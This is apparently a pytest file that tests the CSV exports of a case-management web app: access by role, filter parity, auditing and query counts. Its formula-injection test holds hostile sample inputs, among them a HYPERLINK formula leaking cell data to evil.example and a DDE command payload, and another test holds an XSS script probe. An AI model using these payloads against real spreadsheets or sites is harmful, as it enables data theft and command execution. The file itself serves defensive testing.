"""CSV exports (issue 8): what a coordinator or an agency representative finds in the spreadsheet, who is refused,
that the case list's filters are honoured, that every export is audited, that text starting like a formula
reaches the spreadsheet as text, and that the case list export does not grow its statements with the cases.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from tests.actions_helpers import make_action
from tests.cases_helpers import make_case
from tests.conftest import login, text_of
from tests.performance.test_query_counts import counted_statements, new_case
from trigger.deadlines.dates import london_today
from trigger.domain.stages import Stage
from trigger.extensions import db
from trigger.models import (
    ActionStatus,
    ActionUpdate,
    AgencyType,
    AuditEvent,
    DecisionOutcome,
    Role,
    ThresholdDecision,
)

TODAY = london_today()


def rows_of(response) -> list[list[str]]:
    """The file as a spreadsheet reads it: UTF-8 with a byte order mark, then CSV."""
    assert response.status_code == 200, response.status_code
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), "no byte order mark: Excel would read the file as ANSI"
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline="")))


def as_dicts(response) -> list[dict[str, str]]:
    header, *rows = rows_of(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def signed_in(app, user):
    client = app.test_client()
    login(client, user)
    return client


@pytest.fixture
def people(app, make_area, make_agency, make_user):
    police = make_agency("Severn Vale Police", AgencyType.POLICE)
    council = make_agency("Severnbury Council", AgencyType.COUNCIL)
    return {
        "area": make_area("Severnbury"),
        "other_area": make_area("Ashcombe"),
        "police": police,
        "council": council,
        "coordinator": make_user(Role.COORDINATOR),
        "chair": make_user(Role.CHAIR),
        "police_rep": make_user(Role.AGENCY_REP, agency=police, name="Pat Police"),
        "council_rep": make_user(Role.AGENCY_REP, agency=council, name="Cam Council"),
    }


@pytest.fixture
def world(people):
    area, other_area, police, council = people["area"], people["other_area"], people["police"], people["council"]
    # Police case: an incident reported to the police (the police representative sees it).
    police_case = make_case(
        area,
        police,
        name="Jane Applicant",
        email="jane@example.org",
        phone="07700 900123",
        address="1 Elm Road",
        perpetrator="Ronnie Noisy",
        received_on=TODAY - timedelta(days=3),
    )
    # Council case, elsewhere: the police representative is not involved and must not see it.
    council_case = make_case(
        other_area, council, name="Kim Other", postcode="GL51 2BB", received_on=TODAY - timedelta(days=1)
    )
    db.session.add(
        ThresholdDecision(
            case_id=police_case.id,
            outcome=DecisionOutcome.MET,
            reasons="Three reports",
            decision_maker_name="Chris Chair",
            decided_on=TODAY,
        )
    )
    db.session.commit()
    return {**people, "police_case": police_case, "council_case": council_case}


# ---- the case list ------------------------------------------------------------------------------------------


def test_a_coordinator_downloads_the_case_list_as_a_spreadsheet(app, world):
    make_action(world["police_case"], world["police"], description="Patrol", due_in_days=-2)  # open, overdue
    make_action(world["police_case"], world["police"], description="Letter", status=ActionStatus.COMPLETED)
    client = signed_in(app, world["coordinator"])

    response = client.get("/cases/export.csv")

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="trigger-cases-{TODAY.isoformat()}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = rows_of(client.get("/cases/export.csv"))
    assert header == [
        "Reference",
        "Applicant",
        "Area",
        "Stage",
        "Received",
        "Threshold outcome",
        "Next deadline",
        "Next deadline date",
        "Overdue",
        "Open actions",
    ]
    by_reference = {row[0]: dict(zip(header, row)) for row in rows}
    assert list(by_reference) == [world["council_case"].reference, world["police_case"].reference]  # newest first
    police = by_reference[world["police_case"].reference]
    assert police["Applicant"] == "Jane Applicant"
    assert police["Area"] == "Severnbury"
    assert police["Stage"] == Stage.RECEIVED.label
    assert police["Received"] == (TODAY - timedelta(days=3)).isoformat()
    assert police["Threshold outcome"] == "Threshold met"
    assert police["Next deadline"] == "Acknowledge the application"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", police["Next deadline date"])
    assert police["Overdue"] == "Yes" and police["Open actions"] == "1"
    council = by_reference[world["council_case"].reference]
    assert (council["Threshold outcome"], council["Overdue"], council["Open actions"]) == ("Not decided yet", "No", "0")
    # The deadline is the one the case list page shows.
    page = text_of(client.get("/cases"))
    assert "Acknowledge the application: " in page


def test_the_case_list_export_streams_in_chunks_and_keeps_each_case_s_deadline(app, world, monkeypatch):
    from trigger.exports import services

    monkeypatch.setattr(services, "CHUNK", 1)  # every case in its own chunk: next deadlines looked up per chunk
    client = signed_in(app, world["coordinator"])
    response = client.get("/cases/export.csv")
    assert response.is_streamed
    rows = as_dicts(response)
    assert [row["Reference"] for row in rows] == [world["council_case"].reference, world["police_case"].reference]
    assert all(row["Next deadline"] == "Acknowledge the application" for row in rows)
    received = {row["Reference"]: row["Received"] for row in rows}
    assert received[world["council_case"].reference] == (TODAY - timedelta(days=1)).isoformat()


def test_the_case_list_export_leaves_out_contact_and_perpetrator_details(app, world):
    body = signed_in(app, world["coordinator"]).get("/cases/export.csv").get_data(as_text=True)
    for detail in ("jane@example.org", "07700", "1 Elm Road", "GL50", "Ronnie Noisy", "Incident"):
        assert detail not in body


def test_an_agency_representative_exports_only_the_cases_they_may_see(app, world):
    rows = as_dicts(signed_in(app, world["police_rep"]).get("/cases/export.csv"))
    assert [row["Reference"] for row in rows] == [world["police_case"].reference]
    rows = as_dicts(signed_in(app, world["council_rep"]).get("/cases/export.csv"))
    assert [row["Reference"] for row in rows] == [world["council_case"].reference]


@pytest.mark.parametrize(
    "query",
    [
        "q=kim",
        "q=ASB",
        "q=ronnie",
        "area={other_area}",
        "stage=closed",
        "overdue=1",
        "sort=deadline",
        "q=jane&area={area}&sort=deadline",
        "area=nonsense&stage=nonsense",
    ],
)
def test_the_case_list_export_honours_the_case_list_filters(app, world, query):
    closed = world["council_case"]
    closed.stage, closed.closed_on, closed.applicant_told_on, closed.closure_reason = (
        Stage.CLOSED,
        TODAY,
        TODAY,
        "Resolved",
    )
    make_action(world["police_case"], world["police"], description="Overdue patrol", due_in_days=-3)
    db.session.commit()
    query = query.format(area=world["area"].id, other_area=world["other_area"].id)
    client = signed_in(app, world["coordinator"])

    exported = [row["Reference"] for row in as_dicts(client.get(f"/cases/export.csv?{query}"))]

    page = client.get(f"/cases?{query}").get_data(as_text=True)
    listed = re.findall(r'href="/cases/\d+">([^<]+)</a>', page)
    assert exported == listed
    assert exported  # every search here matches a case
    if query in ("q=kim", "stage=closed", f"area={world['other_area'].id}"):
        assert exported == [world["council_case"].reference]
    if query in ("q=ronnie", "overdue=1"):
        assert exported == [world["police_case"].reference]


def test_the_case_list_page_links_to_the_export_with_its_search(app, world):
    page = signed_in(app, world["coordinator"]).get("/cases?q=kim&overdue=1").get_data(as_text=True)
    link = re.search(r'<a [^>]*href="(/cases/export\.csv[^"]*)"[^>]*>([^<]*)', page)
    assert link, "no export link on the case list"
    assert link[1] == "/cases/export.csv?q=kim&amp;overdue=1"
    assert "CSV" in link[2]
    # A query string sent raw (not percent-encoded) stays inside the link's attribute, as text.
    page = signed_in(app, world["coordinator"]).get("/cases", query_string='q="><script>alert(1)</script>')
    html = page.get_data(as_text=True)
    assert "<script>alert(1)" not in html
    assert '/cases/export.csv?q=&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in html


# ---- one case's action plan ---------------------------------------------------------------------------------


def test_the_action_plan_export_lists_what_the_plan_page_shows(app, world, make_user):
    case = world["police_case"]
    owner = make_user(Role.AGENCY_REP, agency=world["police"], name="Olive Owner")
    patrol = make_action(case, world["police"], description="Patrol the park, Fridays", due_in_days=5)
    patrol.owner_user_id = owner.id
    make_action(
        case,
        world["council"],
        description='Write to the "landlord"',
        due_in_days=9,
        victim_visible=True,
        victim_wording="We will write to your landlord",
    )
    db.session.add(
        ActionUpdate(
            action_id=patrol.id,
            author_id=owner.id,
            note="First visit done",
            status_from=ActionStatus.NOT_STARTED,
            status_to=ActionStatus.IN_PROGRESS,
            action_version=1,
        )
    )
    db.session.commit()
    db.session.add(
        ActionUpdate(
            action_id=patrol.id,
            author_id=owner.id,
            note="Second visit,\nall quiet",
            status_from=ActionStatus.IN_PROGRESS,
            status_to=ActionStatus.IN_PROGRESS,
            action_version=1,
        )
    )
    db.session.commit()

    for user in (world["coordinator"], world["police_rep"]):
        client = signed_in(app, user)
        response = client.get(f"/cases/{case.id}/plan.csv")
        assert response.headers["Content-Disposition"] == (
            f'attachment; filename="trigger-action-plan-{case.reference}-{TODAY.isoformat()}.csv"'
        )
        rows = as_dicts(response)
        assert rows == [
            {
                "Action number": "1",
                "Action": "Patrol the park, Fridays",
                "Owner agency": "Severn Vale Police",
                "Owner person": "Olive Owner",
                "Due": (date.today() + timedelta(days=5)).isoformat(),
                "Status": "Not started",
                "Overdue": "No",
                "Latest update": "Second visit,\nall quiet",
                "Latest update date": TODAY.isoformat(),
                "Not for the victim": "Yes",
            },
            {
                "Action number": "2",
                "Action": 'Write to the "landlord"',
                "Owner agency": "Severnbury Council",
                "Owner person": "",
                "Due": (date.today() + timedelta(days=9)).isoformat(),
                "Status": "Not started",
                "Overdue": "No",
                "Latest update": "",
                "Latest update date": "",
                "Not for the victim": "No",
            },
        ]
        # The plan page shows this person the same actions (an agency representative included).
        page = text_of(client.get(f"/cases/{case.id}/plan"))
        assert "Patrol the park, Fridays" in page and 'Write to the "landlord"' in page
        assert "Export as CSV (spreadsheet)" in page


def test_the_action_plan_export_refuses_who_the_plan_page_refuses(app, world):
    council_case = world["council_case"]
    make_action(council_case, world["council"], description="Council-only action")
    police_rep = signed_in(app, world["police_rep"])
    assert police_rep.get(f"/cases/{council_case.id}/plan").status_code == 403
    response = police_rep.get(f"/cases/{council_case.id}/plan.csv")
    assert response.status_code == 403
    assert "Council-only action" not in response.get_data(as_text=True)
    assert police_rep.get("/cases/999999/plan.csv").status_code == 404
    assert not db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.action_plan")).all()


@pytest.mark.parametrize("url", ["/cases/export.csv", "/cases/1/plan.csv", "/my-actions.csv"])
def test_signed_out_visitors_are_sent_to_sign_in(client, world, url):
    response = client.get(url)
    assert response.status_code == 302
    assert "/login" in response.location


# ---- "My actions" -------------------------------------------------------------------------------------------


def test_my_actions_export_has_only_the_agency_s_own_actions(app, world):
    shared = world["police_case"]
    make_action(shared, world["police"], description="Police patrol", due_in_days=-1)
    make_action(shared, world["council"], description="Council letter", due_in_days=4)
    make_action(world["council_case"], world["council"], description="Council visit")
    client = signed_in(app, world["police_rep"])

    response = client.get("/my-actions.csv")

    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="trigger-my-actions-{TODAY.isoformat()}.csv"'
    )
    rows = as_dicts(response)
    assert [(r["Case"], r["Area"], r["Action"], r["Overdue"]) for r in rows] == [
        (shared.reference, "Severnbury", "Police patrol", "Yes")
    ]
    assert "Council" not in response.get_data(as_text=True)
    council_rows = as_dicts(signed_in(app, world["council_rep"]).get("/my-actions.csv"))
    assert sorted(r["Action"] for r in council_rows) == ["Council letter", "Council visit"]
    # The page says the same, and links to the export.
    page = text_of(client.get("/my-actions"))
    assert "Police patrol" in page and "Council letter" not in page
    assert "Export as CSV (spreadsheet)" in page


def test_my_actions_export_is_for_agency_representatives(app, world):
    assert signed_in(app, world["coordinator"]).get("/my-actions.csv").status_code == 403


# ---- audit --------------------------------------------------------------------------------------------------


def test_every_export_is_audited(app, world):
    case = world["police_case"]
    make_action(case, world["police"])
    signed_in(app, world["coordinator"]).get("/cases/export.csv?q=jane&stage=received").get_data()
    rep = signed_in(app, world["police_rep"])
    rep.get(f"/cases/{case.id}/plan.csv").get_data()
    rep.get("/my-actions.csv").get_data()
    events = {e.action: e for e in db.session.scalars(select(AuditEvent).where(AuditEvent.action.like("export.%")))}
    assert set(events) == {"export.cases", "export.action_plan", "export.my_actions"}
    assert events["export.cases"].actor_id == world["coordinator"].id
    assert events["export.cases"].details["filters"]["query"] == "jane"
    assert events["export.cases"].details["filters"]["stage"] == "received"
    assert events["export.action_plan"].case_id == case.id
    assert events["export.action_plan"].actor_id == world["police_rep"].id
    assert events["export.my_actions"].details == {"actions": 1}


# ---- formulas stay text -------------------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd"]


def test_text_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(app, world):
    case = world["police_case"]
    for formula in FORMULAS:
        make_action(case, world["police"], description=formula)
    make_action(case, world["police"], description='Plain, "quoted"\ntext <b>{{7*7}}</b> \u202e 1=1')
    case.applicant_name = "=1+2"
    db.session.commit()
    client = signed_in(app, world["coordinator"])

    actions = [row["Action"] for row in as_dicts(client.get(f"/cases/{case.id}/plan.csv"))]

    assert sorted(actions) == sorted(["'" + f for f in FORMULAS] + ['Plain, "quoted"\ntext <b>{{7*7}}</b> \u202e 1=1'])
    rows = as_dicts(client.get("/cases/export.csv"))
    assert "'=1+2" in [row["Applicant"] for row in rows]
    raw = client.get(f"/cases/{case.id}/plan.csv").get_data(as_text=True)
    for formula in FORMULAS:
        assert f"\n{formula}" not in raw and f",{formula}" not in raw and f'"{formula}' not in raw


# ---- statements ---------------------------------------------------------------------------------------------


def statements_for_download(client, url: str) -> tuple[int, bytes]:
    with counted_statements() as statements:
        response = client.get(url)
        body = response.get_data()  # the case list streams: its statements run while the body is read
    assert response.status_code == 200, (url, response.status_code)
    return len(statements), body


def test_the_exports_take_the_same_statements_with_1_and_50_children(app, people):
    world = people
    chair, rep, police = world["chair"], world["police_rep"], world["police"]
    new_case(world["area"], police, children=1, chair=chair, rep=rep)
    clients = {user.role: signed_in(app, user) for user in (world["coordinator"], rep)}
    for client in clients.values():
        statements_for_download(client, "/cases/export.csv")  # warm
    one = {role: statements_for_download(c, "/cases/export.csv")[0] for role, c in clients.items()}
    mine_one = statements_for_download(clients[Role.AGENCY_REP], "/my-actions.csv")[0]
    few = new_case(world["area"], police, children=1, chair=chair, rep=rep)
    plan_one = statements_for_download(clients[Role.COORDINATOR], f"/cases/{few.id}/plan.csv")[0]
    for _ in range(48):
        new_case(world["other_area"], police, children=1, chair=chair, rep=rep)
    many = new_case(world["other_area"], police, children=50, chair=chair, rep=rep)

    fifty = {role: statements_for_download(c, "/cases/export.csv") for role, c in clients.items()}
    assert {role: count for role, (count, _) in fifty.items()} == one
    for _, body in fifty.values():
        assert len(rows_of_bytes(body)) == 1 + 51  # the header and every case (the representative is on all)
    assert statements_for_download(clients[Role.COORDINATOR], f"/cases/{many.id}/plan.csv")[0] == plan_one
    assert statements_for_download(clients[Role.AGENCY_REP], "/my-actions.csv")[0] == mine_one


def rows_of_bytes(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
